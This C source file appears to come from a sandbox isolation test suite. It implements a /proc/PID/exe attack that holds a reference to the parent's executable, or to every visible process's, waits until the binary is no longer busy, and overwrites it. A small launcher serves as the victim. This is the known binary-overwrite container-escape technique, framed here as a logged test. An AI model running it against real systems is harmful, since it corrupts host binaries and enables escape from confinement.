/* Attacks on the program that started the attacker, through /proc/PID/exe. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static const char OWNED[] = "owned by the attacker";

static void
overwrite_executable_of(long pid, void *context)
{
	char path[64], again[64];
	int held, fd = -1;
	bool wait_for_end = context != NULL;

	snprintf(path, sizeof path, "/proc/%ld/exe", pid);
	held = open(path, O_RDONLY | O_CLOEXEC);
	report_on("hold", path, held);
	if (held < 0) {
		report_on("open for writing", path, -1);
		return;
	}
	/* Busy (ETXTBSY) while it runs: the trick is to keep it until it ended. */
	snprintf(again, sizeof again, "/proc/self/fd/%d", held);
	for (int i = 0; i < (wait_for_end ? 100 : 1); i++) {
		fd = open(again, O_WRONLY | O_CLOEXEC);
		if (fd >= 0)
			break;
		usleep(20000);
	}
	report_on("open for writing", path, fd);
	if (fd >= 0)
		report_on("overwrite", path, pwrite(fd, OWNED, sizeof OWNED - 1, 0));
	if (fd >= 0)
		close(fd);
	close(held);
}

/*
 * proc-exe parent: overwrites the executable of its parent.
 * proc-exe all: tries those of all visible processes, itself included.
 */
int
attack_proc_exe(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "parent") == 0)
		overwrite_executable_of(getppid(), argv[1]);
	else
		printf("processes seen: %d\n", each_process(overwrite_executable_of, NULL));
	return 0;
}

/* victim COMMAND...: a launcher that starts COMMAND and ends a moment later. */
int
tool_victim(int argc, char **argv)
{
	if (argc < 2)
		broken("victim COMMAND");
	if (fork() == 0) {
		execv(argv[1], argv + 1);
		broken(argv[1]);
	}
	usleep(300000);
	return 0;
}
